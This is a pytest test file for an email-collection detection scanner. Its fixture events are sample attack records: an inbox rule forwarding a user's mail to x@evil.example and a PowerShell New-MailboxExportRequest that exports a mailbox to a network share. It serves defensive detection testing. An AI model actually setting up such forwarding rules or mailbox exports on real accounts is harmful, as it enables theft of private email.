"""`t1114 scan`: the documented hit records over recorded event files."""

import json

import pytest

from t1114.scan import scan
from t1114.targets import all_targets

FWD = {
    "CreationTime": "2026-11-20T10:00:00",
    "Workload": "Exchange",
    "Operation": "New-InboxRule",
    "UserId": "alice@contoso.com",
    "Parameters": [{"Name": "ForwardTo", "Value": "x@evil.example"}],
}
SYNC = {
    "CreationTime": "2026-11-20T10:30:00",
    "Workload": "Exchange",
    "Operation": "MailItemsAccessed",
    "UserId": "Alice@contoso.com",
    "OperationProperties": [{"Name": "MailAccessType", "Value": "Sync"}],
}
PROC = {
    "Event": {
        "System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"},
        "EventData": {"CommandLine": "powershell New-MailboxExportRequest -Mailbox a -FilePath \\\\h\\s\\a.pst"},
    }
}
# The same command line in a file-creation event: another log source, so no hit.
FILE_EVENT = {
    "Event": {
        "System": {"EventID": 11, "Channel": "Microsoft-Windows-Sysmon/Operational"},
        "EventData": {"CommandLine": "New-MailboxExportRequest"},
    }
}


@pytest.fixture
def native_file(tmp_path):
    p = tmp_path / "mixed.jsonl"
    p.write_text("\n".join(json.dumps(d) for d in [FILE_EVENT, FWD, PROC, SYNC]) + "\n")
    return p


def test_scan_reports_documented_hits(pack, native_file):
    hits = list(scan(pack, all_targets()["native"], [native_file]))
    by_rule = {h["rule_id"]: h for h in hits}
    assert set(hits[0]) == {"rule_id", "rule_title", "level", "file", "event_index", "event_indices", "group"}
    fwd = by_rule[pack.find("m365_inbox_rule_forwarding").id]
    assert (fwd["event_index"], fwd["event_indices"], fwd["group"]) == (1, [1], {})
    assert by_rule[pack.find("win_exchange_new_mailbox_export_request").id]["event_index"] == 2
    corr = by_rule[pack.find("m365_forwarding_rule_and_mailbox_sync").id]
    assert corr["event_indices"] == [1, 3] and corr["group"] == {"UserId": "alice@contoso.com"}
    assert corr["level"] == "high" and corr["file"] == str(native_file)
    assert 0 not in {i for h in hits for i in h["event_indices"]}


def test_cli_scan_prints_json_lines(cli, pack, native_file):
    result = cli("scan", "--target", "native", str(native_file))
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert lines == list(scan(pack, all_targets()["native"], [native_file]))
    names = {pack.find(h["rule_id"]).name for h in lines}
    assert {"m365_inbox_rule_forwarding", "m365_mailbox_sync_access", "win_exchange_new_mailbox_export_request"} <= names
    assert [h["event_index"] for h in lines] == sorted(h["event_index"] for h in lines)


def test_scan_of_missing_file_is_a_clean_error(cli, tmp_path):
    result = cli("scan", "--target", "native", str(tmp_path / "nope.jsonl"))
    assert result.returncode == 2 and "nope.jsonl: no such file" in result.stderr


def test_scan_of_broken_json_lines_names_the_line(cli, tmp_path):
    p = tmp_path / "bad.jsonl"
    p.write_text(json.dumps(FWD) + "\n{broken\n")
    result = cli("scan", "--target", "native", str(p))
    assert result.returncode == 2 and "bad.jsonl: invalid JSON on line 2" in result.stderr
